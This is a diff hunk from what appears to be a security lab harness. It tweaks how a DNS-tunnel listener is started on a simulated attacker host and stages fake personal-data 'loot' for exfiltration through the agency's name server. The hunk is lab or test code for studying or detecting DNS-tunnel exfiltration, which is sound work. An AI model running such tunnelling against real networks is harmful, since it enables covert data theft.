@@ -119,7 +119,7 @@ def arp_spoofing(lab: Lab, *, seconds: float = 7) -> None:
 def dns_tunnel(lab: Lab, *, questions: int = TUNNEL_QUESTIONS) -> None:
     """Carry text out in the names of TXT questions, through the agency's own name server, to the attacker."""
     far_end = lab.attacker.popen(
-        ["/usr/bin/python3", Path(__file__).parent / "tunnel.py", lab.attacker.address], log="tunnel.out"
+        ["/usr/bin/python3", "-I", Path(__file__).parent / "tunnel.py", lab.attacker.address], log="tunnel.out"
     )
     until(lambda: ":53 " in lab.attacker.run(["ss", "-lun"]).stdout, "the far end of the tunnel")
     loot = (f"{number:04d};Nguyen Van Mau {number};000{number:09d};Phuong Mau;" * 3 for number in range(questions))
